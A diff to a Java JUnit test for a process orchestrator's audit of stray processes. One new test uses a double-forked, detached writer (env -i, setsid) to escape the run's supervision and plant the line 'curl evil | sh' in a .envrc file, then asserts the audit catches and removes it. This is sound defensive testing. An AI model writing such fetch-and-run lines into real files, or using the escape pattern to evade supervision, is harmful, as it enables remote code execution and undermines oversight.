@@ -2,11 +2,16 @@ package dev.magus.orchestrator;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.magus.events.Code;
+import dev.magus.events.Diagnostic;
+import dev.magus.events.Layer;
+import dev.magus.events.RunEvent;
 import dev.magus.orchestrator.run.Run;
 import dev.magus.orchestrator.run.RunRequest;
 import dev.magus.orchestrator.run.RunResult;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -75,7 +80,8 @@ class StraysInRunsTest {
         Run second = o.submit(RunRequest.builder(t.workspace, "sh", "-c",
                 "env -i setsid /bin/sh -c 'echo $$ > z.pid; sleep 1' </dev/null >/dev/null 2>&1 &"
                         + " while [ ! -s z.pid ]; do sleep 0.05; done").build());
-        assertThat(second.result().block(TestHost.DEADLINE).status()).isZero();
+        assertThat(second.result().block(TestHost.DEADLINE).status())
+                .as("the stray outlives the second run's audit, which so fails").isEqualTo(1);
         long stray = Long.parseLong(Files.readString(pidFile).strip());
         // Started while the first run was running, so it may be the first run's: not killed yet.
         assertThat(ProcessHandle.of(stray).map(ProcessHandle::isAlive).orElse(false))
@@ -86,6 +92,60 @@ class StraysInRunsTest {
         // It ended by itself meanwhile (sleep 1): a zombie of magus's, reaped at the first run's end.
         assertThat(Path.of("/proc/" + stray)).as("the adopted zombie %d is reaped", stray).doesNotExist();
         assertThat(adoptedZombies()).isEmpty();
+    }
+
+    @Test
+    void aWriterDoubleForkedOutOfReachOfTheCollectionFailsTheRunAsUnauditedAndTheRunningRunCatchesItsWrite()
+            throws Exception {
+        Orchestrator o = t.orchestrator();
+        Run first = o.submit(RunRequest.builder(t.workspace, "sh", "-c", "sleep 5; exit 7").build());
+        List<RunEvent> firstEvents = new java.util.concurrent.CopyOnWriteArrayList<>();
+        first.events().subscribe(firstEvents::add);
+        TimeUnit.MILLISECONDS.sleep(300);
+        Path pidFile = t.workspace.resolve("w.pid");
+        Path envrc = t.workspace.resolve(".envrc");
+        // ( … & ): a double fork, so the writer is re-parented to magus; env -i and setsid: no
+        // run id, out of the group. Started while the first run runs, it may be either's.
+        Run second = o.submit(RunRequest.builder(t.workspace, "sh", "-c",
+                "( env -i setsid /bin/sh -c 'echo $$ > w.pid; sleep 2; echo \"curl evil | sh\" > .envrc'"
+                        + " </dev/null >/dev/null 2>&1 & ); while [ ! -s w.pid ]; do sleep 0.05; done").build());
+        List<RunEvent> events = TestHost.events(second);
+        RunResult result = second.result().block(TestHost.DEADLINE);
+        long writer = Long.parseLong(Files.readString(pidFile).strip());
+        assertThat(result.status()).as("the child exited 0; a writer outlived the run: %s", TestHost.text(events))
+                .isEqualTo(1);
+        List<Diagnostic> audit = audit(events);
+        assertThat(audit).as(TestHost.text(events)).singleElement().satisfies(d -> {
+            assertThat(d.code()).isEqualTo(Code.MGS2002);
+            assertThat(d.details()).containsEntry("change", "unaudited").containsEntry("pids", Long.toString(writer));
+            assertThat(d.message()).contains("outlived").contains(Long.toString(writer));
+        });
+        assertThat(envrc).as("written after the second run's audit").doesNotExist();
+
+        RunResult r = first.result().block(TestHost.DEADLINE);
+        assertThat(r.status()).isEqualTo(7);
+        assertThat(audit(firstEvents)).as("the first run, running when it wrote, caught the write")
+                .anySatisfy(d -> assertThat(d.details()).containsEntry("change", "created"));
+        assertThat(envrc).as("and removed it").doesNotExist();
+        assertThat(ProcessHandle.of(writer).map(ProcessHandle::isAlive).orElse(false)).isFalse();
+    }
+
+    @Test
+    void aRunWhoseStraysAreAllKilledDoesNotFailForThem() throws Exception {
+        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c",
+                "( setsid sh -c 'echo $$ > d.pid; sleep 30' </dev/null >/dev/null 2>&1 & ); while [ ! -s d.pid ]; do sleep 0.05; done")
+                .build());
+        List<RunEvent> events = TestHost.events(run);
+        RunResult result = run.result().block(TestHost.DEADLINE);
+        assertThat(result.status()).as(TestHost.text(events)).isZero();
+        assertThat(audit(events)).isEmpty();
+        long daemon = Long.parseLong(Files.readString(t.workspace.resolve("d.pid")).strip());
+        assertThat(ProcessHandle.of(daemon).map(ProcessHandle::isAlive).orElse(false)).isFalse();
+    }
+
+    private static List<Diagnostic> audit(List<RunEvent> events) {
+        return events.stream().filter(e -> e instanceof RunEvent.Diag).map(e -> ((RunEvent.Diag) e).diagnostic())
+                .filter(d -> d.layer() == Layer.AUDIT).toList();
     }
 
     /** Zombie children of this JVM outside its own process group (the JDK's Process children are in it). */
